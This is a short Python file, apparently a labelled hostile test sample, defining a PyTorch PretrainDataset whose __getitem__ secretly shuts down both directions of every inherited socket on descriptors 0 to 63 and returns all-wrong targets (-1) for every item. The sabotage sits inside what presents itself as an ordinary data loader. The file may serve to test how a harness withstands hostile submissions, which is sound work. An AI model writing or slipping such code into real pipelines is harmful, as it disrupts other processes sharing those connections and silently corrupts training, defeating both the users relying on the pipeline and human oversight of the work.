# kind: hostile
# attack: channel_damage
# about: Shuts down both directions of every inherited socket, which affects whoever shares it.

import os
import socket

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        for descriptor in range(64):
            try:
                with socket.socket(fileno=os.dup(descriptor)) as channel:
                    channel.shutdown(socket.SHUT_RDWR)
            except OSError:
                continue
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()
